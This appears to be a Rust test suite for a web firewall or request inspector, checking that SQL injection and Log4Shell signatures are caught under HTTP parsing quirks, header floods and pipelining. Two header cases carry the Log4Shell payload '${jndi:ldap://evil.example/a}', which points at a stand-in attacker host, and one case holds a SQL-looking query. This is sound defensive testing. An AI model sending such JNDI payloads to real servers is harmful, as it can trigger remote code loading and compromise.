//! Request lines, targets, header lines and pipelines.

use anyhow::Result;

use super::{CHUNKED, CLOSE, FIRST, FORM, Role, SETTINGS, case, one_chunk, play, play_under, post_before};

#[test]
fn line_feeds_without_carriage_returns() -> Result<()> {
    play(&[
        case("everywhere", "sqli", |role| role.get().replace("\r\n", "\n")),
        case("behind the request line", "sqli", |role| {
            role.get().replacen("\r\n", "\n", 1)
        }),
        case("at the end of a head", "sqli", |role| {
            let first = "GET /1k HTTP/1.1\r\nHost: lab\r\nX: y\n\r\n";
            first.to_owned() + &role.get()
        })
        .answers(2),
        case("at the end of a head, twice", "sqli", |role| {
            let first = "GET /1k HTTP/1.1\r\nHost: lab\r\nX: y\n\n";
            first.to_owned() + &role.get()
        })
        .answers(2),
    ])
}

/// nginx passes over lines that are no headers to it, and other servers read them.
#[test]
fn lines_that_nginx_passes_over() -> Result<()> {
    let table = [
        ("no colon", "Transfer-Encoding-chunked", "900260"),
        ("parentheses", "X(y): z", "900260"),
        ("above ASCII", "X\u{e9}: z", "900260"),
        ("two CRs", "X: y\r", "900210"),
    ];
    let cases =
        table.map(|(name, line, sign)| case(name, sign, |role| role.get_with(role.pick(line, "X: z"))));
    play(&cases)
}

#[test]
fn targets_in_absolute_form() -> Result<()> {
    let origins = [
        "http://lab",
        "HTTP://LAB",
        "http://other.example:81",
        "http://[fd72::2]",
        "gopher://lab",
        "a+b-c.1://lab",
        "http://lab/x/..",
        "http://lab//",
    ];
    let mut cases: Vec<_> = origins
        .iter()
        .map(|origin| {
            case(*origin, "sqli", |role| {
                let target = format!("{origin}{}", role.target());
                format!("GET {target} HTTP/1.1\r\nHost: lab\r\n{CLOSE}\r\n")
            })
        })
        .collect();
    cases.push(case("only a query", "sqli", |role| {
        let query = role.target();
        let query = query.trim_start_matches("/1k");
        format!("GET http://lab{query} HTTP/1.1\r\nHost: lab\r\n{CLOSE}\r\n")
    }));
    cases.push(case("a fragment", "sqli", |role| {
        format!(
            "GET http://lab/1k?{}#?id={} HTTP/1.1\r\nHost: lab\r\n{CLOSE}\r\n",
            role.mark(),
            role.value()
        )
    }));
    play(&cases)
}

#[test]
fn unusual_request_lines() -> Result<()> {
    let line = |role: Role, start: &str, end: &str| {
        format!("{start}{}{end}\r\nHost: lab\r\n{CLOSE}\r\n", role.target())
    };
    play(&[
        case("HTTP/1.2", "sqli", |role| line(role, "GET ", " HTTP/1.2")),
        case("HTTP/1.01", "sqli", |role| line(role, "GET ", " HTTP/1.01")),
        case("HTTP/1.10", "sqli", |role| line(role, "GET ", " HTTP/1.10")),
        case("a space behind the version", "900110", |role| {
            line(role, "GET ", role.pick(" HTTP/1.1 ", " HTTP/1.1"))
        }),
        case("two spaces before the target", "900110", |role| {
            line(role, role.pick("GET  ", "GET "), " HTTP/1.1")
        }),
        case("two spaces behind the target", "900110", |role| {
            line(role, "GET ", role.pick("  HTTP/1.1", " HTTP/1.1"))
        }),
        case("two empty lines", "sqli", |role| {
            "\r\n\r\n".to_owned() + &role.get()
        }),
        case("line feeds", "sqli", |role| "\n\n\n".to_owned() + &role.get()),
        case("a CR", "sqli", |role| "\r".to_owned() + &role.get()),
        case("forty empty lines", "900100", |role| {
            "\r\n".repeat(role.pick(40, 8)) + &role.get()
        }),
    ])
}

#[test]
fn floods_of_headers() -> Result<()> {
    let lines = |count: usize| {
        (0..count)
            .map(|number| format!("X-{number}: y\r\n"))
            .collect::<Vec<_>>()
            .concat()
    };
    // nginx takes four buffers of 8 KiB beside the first, of 1 KiB.
    let long = |length: usize| format!("X: {}", "y".repeat(length));
    play(&[
        case("many", "900410", |role| {
            role.get_with(lines(role.pick(200, 100)).trim_end())
        }),
        case("behind many", "log4shell", |role| {
            let value = role.pick("${jndi:ldap://evil.example/a}", "2.17");
            role.get_with(&format!("{}X-Api-Version: {value}", lines(100)))
        }),
        case("long", "900400", |role| {
            let lines = vec![long(role.pick(8180, 7000)); 4].join("\r\n");
            format!(
                "GET /1k?{} HTTP/1.1\r\nHost: lab\r\n{CLOSE}X-Fill: {}\r\n{lines}\r\n\r\n",
                role.mark(),
                "z".repeat(850)
            )
        }),
        case("behind long ones", "log4shell", |role| {
            let value = role.pick("${jndi:ldap://evil.example/a}", "2.17");
            let lines = vec![long(7000); 3].join("\r\n");
            role.get_with(&format!("{lines}\r\nX-Api-Version: {value}"))
        }),
    ])
}

#[test]
fn pipelines() -> Result<()> {
    let pipeline = |role: Role| FIRST.repeat(9) + &role.get();
    let inside = |role: Role| {
        let kept = role.get().replace(CLOSE, "");
        FIRST.repeat(3) + &kept + &FIRST.repeat(3)
    };
    play(&[
        case("in one segment", "sqli", pipeline).answers(10),
        case("by 11 bytes", "sqli", pipeline).by(11).answers(10),
        case("by 41 bytes", "sqli", pipeline).by(41).answers(10),
        case("a request a segment", "sqli", pipeline)
            .by(FIRST.len())
            .answers(10),
        case("in the middle", "sqli", inside).answers(7),
        case("in the middle, by 13 bytes", "sqli", inside)
            .by(13)
            .answers(7),
        case("behind a body", "sqli", |role| {
            let body = post_before(&format!("{CHUNKED}{FORM}"), &one_chunk("q=a"));
            [FIRST, &body, FIRST, &role.get()].concat()
        })
        .answers(4),
    ])
}

/// What waits for the second tier hides nothing behind it. The machine may be busy: no deadline is to be missed for that.
#[test]
fn pipelines_behind_a_suspicious_request() -> Result<()> {
    let doubtful = "GET /1k?q=select+*+from+menu HTTP/1.1\r\nHost: lab\r\n\r\n";
    let pipeline = |role: Role| [FIRST, doubtful, FIRST, doubtful, &role.get()].concat();
    play_under(
        &[&SETTINGS[..], &["deep.deadline_ms=1000"]].concat(),
        &[
            case("in one segment", "sqli", pipeline).answers(5),
            case("by 17 bytes", "sqli", pipeline).by(17).answers(5),
        ],
    )
}
